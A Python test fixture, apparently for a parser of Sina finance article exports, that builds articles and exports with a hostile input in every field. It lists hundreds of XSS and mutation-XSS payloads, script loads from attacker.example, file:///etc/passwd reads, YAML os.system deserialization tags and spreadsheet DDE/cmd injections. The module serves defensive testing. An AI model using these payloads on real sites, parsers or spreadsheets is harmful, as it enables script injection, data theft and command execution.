r"""What a hostile export may try on those who show it: one table of attacks, and every place of an export to put them.

``JS`` in an attack becomes a call that says which attack ran and where, ``URL`` an address that is never to be asked for,
``PICTURE`` one that a picture may have. The shapes of mutation XSS are after those in the tests and notes of DOMPurify
(https://github.com/cure53/DOMPurify) and the papers of Heiderich et al. (mXSS, 2013), Bentkowski (2019, 2020) and Kinugawa.
"""

from __future__ import annotations

import datetime as dt
import json
from collections.abc import Callable, Iterator, Mapping
from typing import NamedTuple

from sinaparse.models import (
    Article,
    Cell,
    Credit,
    Editor,
    FrozenDict,
    Image,
    Item,
    ItemList,
    Mention,
    Paragraph,
    Quote,
    Section,
    Span,
    Table,
    Video,
)

ATTACKS: Mapping[str, tuple[str, ...]] = {
    "script": (
        "<script>JS</script>",
        "<SCRIPT>JS</SCRIPT>",
        "<script/x>JS</script >",
        "<script\t>JS</script\n>",
        "<script src=URL></script>",
        "<script src=//attacker.example/x.js></script>",
        "<script type=module>JS</script>",
        "<scr<script>ipt>JS</scr</script>ipt>",
        "<<script>JS//<</script>",
        "<script>JS",
        "\\x3cscript>JS</script>",
        "\uff1cscript\uff1eJS\uff1c/script\uff1e",
        "&lt;script&gt;JS&lt;/script&gt;",
        "&amp;lt;script&amp;gt;JS&amp;lt;/script&amp;gt;",
        "&#60;script&#62;JS&#60;/script&#62;",
        "<script\x00>JS</script>",
        "<\x00script>JS</script>",
        "{{constructor.constructor('JS')()}}",
        "${JS}",
        "`-JS-`",
        "';JS//",
        '";JS//',
        "<%= JS %>",
    ),
    "event attributes": (
        '<img src=x onerror="JS">',
        "<img src=x onerror='JS'>",
        "<img src=x oNeRrOr=JS>",
        "<img/src=x/onerror=JS>",
        "<img\fsrc=x\fonerror=JS>",
        "<img src=x onerror\n=\nJS>",
        '" onerror="JS" x="',
        "' onerror='JS' x='",
        '" onload="JS" autofocus onfocus="JS" x="',
        '"><img src=x onerror="JS">',
        "'><img src=x onerror='JS'>",
        "></p><img src=x onerror=JS>",
        "<body onload=JS>",
        "<input autofocus onfocus=JS>",
        "<details open ontoggle=JS>x</details>",
        "<p onmouseover=JS onclick=JS>退潮</p>",
        "<video><source onerror=JS></video>",
        "<audio src=x onerror=JS></audio>",
        "<iframe onload=JS></iframe>",
        "<marquee onstart=JS>x</marquee>",
        "<button popovertarget=x>退</button><p popover id=x onbeforetoggle=JS>潮</p>",
        '<p style="animation: a" onanimationstart="JS">x</p><style>@keyframes a {}</style>',
        "`onerror=JS x=`",
    ),
    "addresses that run": (
        "javascript:JS",
        "JaVaScRiPt:JS",
        " javascript:JS",
        "\tjavascript:JS",
        "java\tscript:JS",
        "java\nscript:JS",
        "java\rscript:JS",
        "javascript\t:JS",
        "\x01javascript:JS",
        "\x00javascript:JS",
        "\u00a0javascript:JS",
        "\u2028javascript:JS",
        "\u3000javascript:JS",
        "\ufeffjavascript:JS",
        "java\u00adscript:JS",
        "javascript&colon;JS",
        "javascript&#58;JS",
        "javascript&#x3a;JS",
        "java&Tab;script:JS",
        "java&NewLine;script:JS",
        "&#1;javascript:JS",
        "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;JS",
        "javascript%3AJS",
        "javascript://pictures.example/%0AJS",
        "javascript://pictures.example/\nJS",
        "javascript:/*https://pictures.example/*/JS",
        "javascript:https://pictures.example/;JS",
        "https:javascript:JS",
        "view-source:javascript:JS",
        "feed:javascript:JS",
        "vbscript:JS",
        "vb\tscript:JS",
        "&#118;bscript:JS",
        "data:text/html,<script>JS</script>",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='JS'/>",
        " data:text/html,<script>JS</script>",
        "da\tta:text/html,<script>JS</script>",
        "data&colon;text/html,<script>JS</script>",
        "blob:https://pictures.example/JS",
        "filesystem:https://pictures.example/JS",
        "file:///etc/passwd",
        "about:blank",
        "mhtml:URL!x",
        "jar:URL!/x",
    ),
    "addresses that deceive or break out": (
        'https://pictures.example/" onerror="JS" x="',
        "https://pictures.example/' onerror='JS' x='",
        "https://pictures.example/\"><img src=x onerror='JS'>",
        "https://pictures.example/&quot;&gt;&lt;img src=x onerror=JS&gt;",
        "https://pictures.example/)<img src=x onerror=JS>",
        "https://pictures.example/>)<img src=x onerror=JS>(",
        "https://pictures.example/ onerror=JS",
        "https://pictures.example/`onerror=JS",
        "https://pictures.example/\n\n<img src=x onerror=JS>",
        "https://pictures.example/\u2028<img src=x onerror=JS>",
        "https://pictures.example@attacker.example/x",
        "https://pictures.example\\@attacker.example/x",
        "https:\\\\attacker.example/x",
        "https:/attacker.example/x",
        "https:attacker.example/x",
        "///attacker.example/x",
        "\\\\attacker.example\\x",
        "//pictures.example/x",
        "PICTURE",
    ),
    "ends of elements": (
        "</style><img src=x onerror=JS>",
        "</script><script>JS</script>",
        "</textarea><img src=x onerror=JS>",
        "</title><script>JS</script>",
        "</noscript><img src=x onerror=JS>",
        "</template><img src=x onerror=JS>",
        "</xmp></iframe></noembed></noframes></plaintext><img src=x onerror=JS>",
        "</option></select><img src=x onerror=JS>",
        "</td></tr></table><img src=x onerror=JS>",
        "</a></p></article></body></html><script>JS</script>",
        "--><img src=x onerror=JS>",
        "--!><img src=x onerror=JS>",
        "]]><img src=x onerror=JS>",
        "?><img src=x onerror=JS>",
        "%><img src=x onerror=JS>",
        "</div></div></div><div><img src=x onerror=JS>",
    ),
    "comments and declarations": (
        "<!--",
        "<!-- <img src=x onerror=JS> -->",
        "<!--><img src=x onerror=JS>-->",
        "<!---><img src=x onerror=JS>-->",
        "<!-- --!><img src=x onerror=JS>",
        "<!--[if gte IE 4]><script>JS</script><![endif]-->",
        "<![CDATA[<img src=x onerror=JS>]]>",
        "<!DOCTYPE html [<!ENTITY x '<img src=x onerror=JS>'>]>&x;",
        "<!ENTITY x SYSTEM 'file:///etc/passwd'>&x;",
        "<?xml-stylesheet href='URL'?>",
        "<?php JS ?>",
        "</ <img src=x onerror=JS>",
        "<! <img src=x onerror=JS>",
        "<//><img src=x onerror=JS>",
    ),
    "elements that load or leave": (
        "<iframe src=URL></iframe>",
        "<iframe src='javascript:JS'></iframe>",
        "<iframe srcdoc='<script>parent.JS</script>'></iframe>",
        "<iframe src='data:text/html,<script>parent.postMessage(1,1)</script>'></iframe>",
        "<object data=URL></object>",
        "<object data='javascript:JS'></object>",
        "<embed src=URL>",
        "<embed src='javascript:JS'>",
        "<link rel=stylesheet href=URL>",
        "<link rel=prefetch href=URL>",
        "<link rel=dns-prefetch href=//attacker.example>",
        "<base href=URL>",
        "<meta http-equiv=refresh content='0;url=URL'>",
        "<meta http-equiv=refresh content='0;url=javascript:JS'>",
        "<form action='javascript:JS'><input type=submit autofocus></form>",
        "<form><button formaction='javascript:JS'>退潮</button></form>",
        "<isindex type=image src=URL onerror=JS>",
        "<audio src=URL autoplay></audio>",
        "<video src=URL poster=URL autoplay></video>",
        "<picture><source srcset=URL><img srcset=URL></picture>",
        "<img src=URL>",
        "<img srcset='URL 1x'>",
        "<img lowsrc=URL dynsrc=URL>",
        "<input type=image src=URL>",
        "<table background=URL><td background=URL></td></table>",
        "<body background=URL>",
        "<portal src=URL></portal>",
        "<a href=URL ping=URL download autofocus>退潮</a>",
        "<frameset><frame src=URL></frameset>",
        "<applet code=URL></applet>",
        "<template shadowrootmode=open><script>JS</script><img src=x onerror=JS></template>",
        "<p is=x-y><x-y onfocus=JS tabindex=0 autofocus></x-y>",
        "<img name=body><form id=head><input name=parentNode></form><a id=sinaparse>退潮</a>",
    ),
    "SVG": (
        "<svg onload=JS>",
        "<svg/onload=JS>",
        "<svg><script>JS</script></svg>",
        "<svg><script href=URL /></svg>",
        "<svg><script xlink:href='data:,JS'></script></svg>",
        "<svg><a xlink:href='javascript:JS'><text x=0 y=9>退潮</text></a></svg>",
        "<svg><a><animate attributeName=href values='javascript:JS'/><text y=9>退</text></a></svg>",
        "<svg><set attributeName=onmouseover to=JS></svg>",
        "<svg><animate onbegin=JS attributeName=x dur=1s></svg>",
        "<svg><use href='data:image/svg+xml,<svg id=x xmlns=\"http://www.w3.org/2000/svg\"><image href=\"x\" onerror=\"JS\"/></svg>#x'/></svg>",
        "<svg><use href='URL#x'/></svg>",
        "<svg><image href=URL onerror=JS /></svg>",
        "<svg><feImage xlink:href=URL /></svg>",
        "<svg><foreignObject><img src=x onerror=JS></foreignObject></svg>",
        "<svg><style>@import 'URL';</style></svg>",
        "<svg><desc><![CDATA[</desc><img src=x onerror=JS>]]></svg>",
        "<svg><title><script>JS</script></title></svg>",
        "<svg><handler xmlns:ev='http://www.w3.org/2001/xml-events' ev:event=load>JS</handler></svg>",
    ),
    "MathML": (
        "<math href='javascript:JS'>退潮</math>",
        "<math><mi xlink:href='javascript:JS'>退潮</mi></math>",
        "<math><maction actiontype='statusline#URL' xlink:href='javascript:JS'>退潮</maction></math>",
        "<math><annotation-xml encoding='text/html'><img src=x onerror=JS></annotation-xml></math>",
        "<math><mtext><img src=x onerror=JS></mtext></math>",
        "<math><style><img src=x onerror=JS></style></math>",
    ),
    "mutation XSS": (
        '<noscript><p title="</noscript><img src=x onerror=JS>">',
        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=JS&gt;">',
        "<math><mtext><table><mglyph><style><math><img src onerror=JS>",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=JS>",
        '<svg></p><style><a id="</style><img src=1 onerror=JS>">',
        "<svg><style><img src=x onerror=JS></style></svg>",
        '<svg></p><title><a id="</title><img src=x onerror=JS>">',
        "<svg><p><style><!--</style><img src=x onerror=JS>--></style></svg>",
        "<math></p><style><!--</style><img src/onerror=JS>--></style></math>",
        '<math><mi><table><mi><style><a title="</style><img src=x onerror=JS>">',
        '<math><annotation-xml encoding="text/html"><style><a title="</style><img src=x onerror=JS>">',
        '<svg><annotation-xml><foreignobject><style><!--</style><p id="--><img src=x onerror=JS>">',
        "<style><style/><img src=x onerror=JS>",
        '<xmp><p title="</xmp><img src=x onerror=JS>">',
        '<noembed><p title="</noembed><img src=x onerror=JS>">',
        '<textarea><p title="</textarea><img src=x onerror=JS>">',
        '<title><p title="</title><img src=x onerror=JS>">',
        '<template><p title="</template><img src=x onerror=JS>">',
        '<select><template><style><!--</style><a rel="--></style></template></select><img id=x src onerror=JS>">',
        "<select><style></select><img src=x onerror=JS></style>",
        "<select><iframe></select><img src=x onerror=JS></iframe>",
        "<option><style></option></select><img src=x onerror=JS></style>",
        "<frameset><style></frameset><img src=x onerror=JS></style>",
        "<listing>&lt;img src=x onerror=JS&gt;</listing>",
        "<pre>&lt;img src=x onerror=JS&gt;</pre>",
        "<p title='``onerror=JS'>",
        "<img alt='``onerror=JS' src=x>",
        "<a title='&lt;/a&gt;&lt;img src=x onerror=JS&gt;'>退潮</a>",
        "<image src=x onerror=JS>",
        "<table><td><table><svg><style><a title='</style><img src=x onerror=JS>'>",
        "<a><a><table><a><svg><style><p title='</style><img src=x onerror=JS>'>",
        "<b><b><b><b><b><p><i></b><svg><style>&lt;img src=x onerror=JS&gt;</style>",
        "<plaintext><img src=x onerror=JS>",
        "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>JS</x:script>",
        "<p id='x\u2028y' title=\"\ufffd\"><svg\u00a0onload=JS>",
        "<svg><![CDATA[><image xlink:href='] ]><img src=x onerror=JS>//'></svg>",
        "<math><!--<p title='--><img src=x onerror=JS>'></math>",
        "<svg><!--<p title='--><img src=x onerror=JS>'></svg>",
        "<br><style>{font-family:'</style><img src=x onerror=JS>'}</style>",
        "<img src=x title=/ onerror=JS//>",
    ),
    "CSS": (
        "<style>@import 'URL';</style>",
        "<style>* { background: url(URL) }</style>",
        "<style>body::before { content: url(URL) } @font-face { font-family: x; src: url(URL) } * { font-family: x }</style>",
        "<p style='background: url(URL)'>退潮</p>",
        "<p style='background: image-set(\"URL\" 1x)'>退潮</p>",
        "<p style='position: fixed; inset: 0; z-index: 9'>退潮</p>",
        "<p style='width: expression(JS)'>退潮</p>",
        "<p style='-moz-binding: url(URL#x); behavior: url(URL)'>退潮</p>",
        "<p style='list-style: url(\"javascript:JS\")'>退潮</p>",
        "} * { background: url(URL) } x {",
        "; background: url(URL); x:",
        '"; background: url(URL); x: "',
        "<div class='two pane sinaparse hot'>退潮</div>",
        "\\3c img src=x onerror=JS\\3e",
    ),
    "Markdown": (
        "[退潮](javascript:JS)",
        "[退潮](<javascript:JS>)",
        "[退潮](java&Tab;script:JS)",
        "[退潮](JaVaScRiPt&colon;JS)",
        "[退潮](\x01javascript:JS)",
        "[退潮](data:text/html,<script>JS</script>)",
        "[退潮](vbscript:JS)",
        '[退潮](URL "x" onclick=JS)',
        '[退潮](https://pictures.example/"onmouseover="JS)',
        "[退潮](https://pictures.example/ '\"onmouseover=\"JS')",
        "![退潮](URL)",
        "![退潮](javascript:JS)",
        '![" onerror="JS](https://pictures.example/x)',
        '![退潮](https://pictures.example/x "\\" onerror=\\"JS")',
        "[![退潮](URL)](javascript:JS)",
        "<javascript:JS>",
        "<URL>",
        "退潮 URL",
        "![退潮][x]\n\n[x]: URL",
        "[退潮][x]\n\n[x]: javascript:JS",
        "[x]: javascript:JS 'x'",
        "\n\n[x]: URL\n\n![x]\n\n",
        "[^x]\n\n[^x]: <img src=x onerror=JS>",
        "`<img src=x onerror=JS>`",
        "``` `` <img src=x onerror=JS> ```",
        "```html\n<img src=x onerror=JS>\n```",
        "\n```\n",
        "~~~\n<img src=x onerror=JS>\n~~~",
        "`",
        "    <img src=x onerror=JS>",
        "\n\n    <img src=x onerror=JS>",
        "\n\n<div>\n<img src=x onerror=JS>\n</div>\n\n",
        "\n\n<div><img src=x onerror=JS",
        "\n<script>JS</script>\n",
        "> <img src=x onerror=JS>",
        "\n> <script>JS</script>",
        "# <img src=x onerror=JS>",
        "- <img src=x onerror=JS>",
        "1. <script>JS</script>",
        "| <img src=x onerror=JS> | 退潮 |\n| --- | --- |\n| <script>JS</script> | 潮 |",
        "|<img src=x onerror=JS>|",
        "\\|<img src=x onerror=JS>\\|",
        "\\<img src=x onerror=JS\\>",
        "\\\\<img src=x onerror=JS>",
        "**<img src=x onerror=JS>**",
        "***__~~<img src=x onerror=JS>~~__***",
        "退潮\n===\n<img src=x onerror=JS>",
        "\n---\n<img src=x onerror=JS>",
        "&lt;img src=x onerror=JS&gt;",
        "&\\#60;img src=x onerror=JS&\\#62;",
        '{: onclick="JS" }',
        '退潮{onclick=JS style="background:url(URL)"}',
        "{% raw %}<script>JS</script>{% endraw %}",
        "{{< rawhtml >}}<script>JS</script>{{< /rawhtml >}}",
        '!!! note "<img src=x onerror=JS>"\n    退潮',
        "::: x onclick=JS\n:::",
        "$$\\href{javascript:JS}{x}$$",
        "<!-- [退潮](javascript:JS) -->",
        "](javascript:JS)[",
        ")![](URL",
        "](URL) ![x](URL",
    ),
    "YAML": (
        "---",
        "\n---\n",
        "\n---\n<script>JS</script>\n",
        "退潮\n---\nauthor: JS",
        "...\n--- JS",
        "!!python/object/apply:os.system ['true']",
        "!!python/object/new:os.system [true]",
        "!!python/name:os.system",
        "!!binary PHNjcmlwdD4=",
        "!!js/function 'function () { JS }'",
        "&a [*a, *a]",
        "*a",
        "<<: *a",
        "<<: {title: JS}",
        "退潮: 之后",
        "退潮:",
        "退潮 # 之后",
        "'退'潮\"",
        '"',
        "'",
        "''",
        '\\"\\',
        "title: JS\nscripts: [URL]",
        "退潮\nlayout: URL",
        "退\r\nlayout: URL",
        "退\rlayout: URL",
        "退\x85layout: URL",
        "退\u2028layout: URL",
        "|\n  退潮",
        "> 退潮",
        "- 退潮",
        "? 退潮",
        "[退, 潮",
        "{退: 潮",
        "%YAML 1.1",
        "@退潮",
        "`退潮`",
        "~",
        "null",
        "true",
        "no",
        "0x1F",
        "1_000",
        "12:30:45",
        "2022-02-17",
        ".nan",
        "+1e3",
        "",
        " 退潮 ",
        "\t退潮\t",
        "退潮\n\n",
        "\\n---\\n",
        "\ufeff---",
    ),
    "spreadsheet formulas": (
        "=1+2",
        "=cmd|' /C calc'!A0",
        '=HYPERLINK("URL","退潮")',
        '=WEBSERVICE("URL")',
        '=IMPORTXML("URL","//a")',
        '=DDE("cmd","/C calc","x")',
        "@SUM(1+2)*cmd|' /C calc'!A0",
        "+1+cmd|' /C calc'!A0",
        "-1+cmd|' /C calc'!A0",
        "\t=1+2",
        "\r=1+2",
        "\n=1+2",
        "\uff1d1+2",
        '"=1+2',
        "1;=1+2",
        "1,=1+2",
        "';=1+2",
        "|calc",
        "-3.5",
        "+3.5%",
    ),
    "terminals": (
        "\x1b]0;JS\x07",
        "\x1b[2J\x1b[H退潮",
        "\x9b2J",
        "\x1b]8;;URL\x1b\\退潮\x1b]8;;\x1b\\",
        "退\b\b潮\x7f",
        "\u202e退潮\u202c<img src=x onerror=JS>",
        "\u2066\u2067退潮",
    ),
}  # fmt: skip
"""Attacks by kind."""


class Attack(NamedTuple):
    """One line of the table."""

    kind: str
    number: int
    text: str

    @property
    def name(self) -> str:
        return f"{self.kind} {self.number}"

    def at(self, place: str) -> str:
        """The attack, with what it does naming itself and its place."""
        name = f"{self.name} in {place}"
        address = name.replace(" ", "-")
        return (
            self.text.replace("JS", f"alert(/{name}/)")
            .replace("URL", f"https://attacker.example/{address}")
            .replace("PICTURE", f"https://pictures.example/{address}.png")
        )


def attacks() -> Iterator[Attack]:
    """The whole table."""
    for kind, texts in ATTACKS.items():
        for number, text in enumerate(texts, 1):
            yield Attack(kind, number, text)


# --- an article with an attack in every field -------------------------------------------------------------------------


def article_of(put: Callable[[str], str]) -> Article:
    """An article all of whose texts are what ``put`` gives for the name of their place."""
    spans = (
        Span(text=put("text")),
        Span(text=put("bold text"), bold=True),
        Span(text=put("linked text"), href="https://pictures.example/x", symbol=put("symbol of a link")),
        Span(text="退潮", href=put("address of a link")),
        Span(text=put("text and address"), bold=True, href=put("text and address")),
    )
    text = "".join(span.text for span in spans)
    paragraph = Paragraph(text=text, lead_in=put("lead-in"), spans=spans)
    table = Table(
        caption=put("caption of a table"),
        rows=(
            (Cell(text=put("head cell"), header=True, colspan=2), Cell(text=put("cell"))),
            (Cell(text=put("tall cell"), rowspan=2), Cell(text=put("cell") * 2), Cell(text="1")),
            (Cell(text=""), Cell(text=put("last cell"))),
        ),
    )
    blocks = (
        Paragraph(text=put("plain paragraph")),
        paragraph,
        Image(url=put("address of a picture"), caption=put("caption"), alt=put("alt")),
        Image(url="https://pictures.example/x.png", caption=put("caption"), alt=put("alt")),
        Image(url=put("address of a picture")),
        Image(url="https://n.sinaimg.cn/x.png"),
        table,
        Video(
            title=put("title of a video"),
            video_id=put("id of a video"),
            url=put("address of a video"),
            poster=put("poster"),
        ),
        Video(title=put("title of a video"), url="https://pictures.example/v", poster="https://pictures.example/v.png"),
        Quote(paragraphs=(paragraph, Paragraph(text=put("quotation")))),
        ItemList(
            ordered=True,
            items=(Item(text=put("item"), depth=0), Item(text=text, spans=spans, depth=1), Item(text=put("item"))),
        ),
    )
    inner = Section(heading=put("inner heading"), level=2, blocks=(Paragraph(text=put("last paragraph")),))
    return Article(
        title=put("title"),
        original_title=put("original title"),
        published_at=dt.datetime(2022, 2, 17, 3, 15, 53, tzinfo=dt.UTC),
        publisher=put("publisher"),
        categories=(put("category"), "金融"),
        head_image=put("head image"),
        authors=(put("author"),),
        source=put("source"),
        editor=Editor(name=put("editor"), code=put("code of an editor")),
        symbols=(put("symbol"),),
        mentions=(Mention(symbol=put("symbol"), name=put("name of a symbol")),),
        credits=(Credit(kind="note", text=put("credit")),),
        sections=(
            Section(blocks=blocks[:1]),
            Section(heading=put("heading"), level=1, blocks=blocks, sections=(inner,)),
        ),
        extra=FrozenDict({put("name of a key"): put("value of a key"), "more": [put("list"), {"key": put("mapping")}]}),
    )


# --- an export with an attack in every place ---------------------------------------------------------------------------

PLACES = (
    "title", "category", "author of the front matter", "key", "value of a key", "paragraph", "bold",
    "heading", "original title", "source", "byline", "editor", "link", "address of a link", "stock link", "id of a stock link",
    "attribute", "attribute without quotes", "picture", "alt", "caption", "cell", "attribute of a cell", "caption of a table",
    "item", "quotation", "title of a video", "address of a video", "id of a video", "poster", "title of a player", "id of a player",
    "keyword comment", "comment", "style", "removed promotion", "unknown element",
)  # fmt: skip
"""The places of an export."""


def export_of(put: Callable[[str], str], escape: Callable[[str], str]) -> str:
    """An export with what ``put`` gives for each of :data:`PLACES`; ``escape`` is how its mark-up writes a text."""
    unused = set(PLACES)

    def at(place: str) -> str:
        unused.discard(place)
        return put(place)

    def text(place: str) -> str:
        return escape(at(place))

    front = {
        "title": at("title"),
        "categories": ["金融", at("category"), "新浪财经"],
        "headimg": at("picture"),  # kept only where it is the first picture
        "author": at("author of the front matter"),
        "date": "Wed, 02 Mar 2022 03:15:53 GMT",
        at("key") or "key": at("value of a key"),
    }
    # JSON is YAML; the fence alone has to be a line of its own.
    lines = "".join(f"{json.dumps(key)}: {json.dumps(value)}\n" for key, value in front.items())
    film = {
        "title": at("title of a video"),
        "url": at("address of a video"),
        "img": at("poster"),
        "videoid": at("id of a video"),
    }
    films = json.dumps({"listPlay": True, "videos": [film]})[1:-1]
    export = f"""---
{lines}---

<div>
<!--mce-plugin-videoList2[&#123;{films}&#125;]mce-plugin-videoList2-->
<style>{at("style")}</style>
<!-- {at("comment")} -->
<p cms-style="font-L">原标题：{text("original title")}</p>
<p cms-style="font-L">来源：{text("source")}</p>
<p cms-style="font-L">记者 {text("byline")}</p>
<p cms-style="font-L">　　{text("paragraph")}</p>
<p cms-style="font-L">　　退潮<strong>{text("bold")}</strong>之后，<a href="{text("address of a link")}">{text("link")}</a>。</p>
<p cms-style="font-L" title="{text("attribute")}" class={text("attribute without quotes")}>　　退潮<span id="stock_{text("id of a stock link")}"><a href="https://finance.sina.com.cn/realstock/company/sh600016/nc.shtml" class="keyword">{text("stock link")}</a></span>。</p>
<p cms-style="strong-Bold">{text("heading")}</p>
<div class="img_wrapper"><img src="{text("picture")}" alt="{text("alt")}"><span class="img_descr">{text("caption")}</span></div>
<table><caption>{text("caption of a table")}</caption><tr><td>{text("cell")}</td><td colspan="{text("attribute of a cell")}">潮</td></tr></table>
<ul><li>{text("item")}</li></ul>
<blockquote><p>{text("quotation")}</p></blockquote>
<div class="video-2017" id="videoList0"></div>
<div class="a-p-s-item J_Play_Item" play-data="{text("id of a player")}" title-data="{text("title of a player")}"></div>
<div class="appendQr_wrap"><img src="https://n.sinaimg.cn/qr.png"><p>{text("removed promotion")}</p></div>
<aside>{text("unknown element")}</aside>
<p class="article-editor">责任编辑：{text("editor")}</p>
<!-- news_keyword_pub,{at("keyword comment")} -->
</div>
"""
    assert not unused
    return export
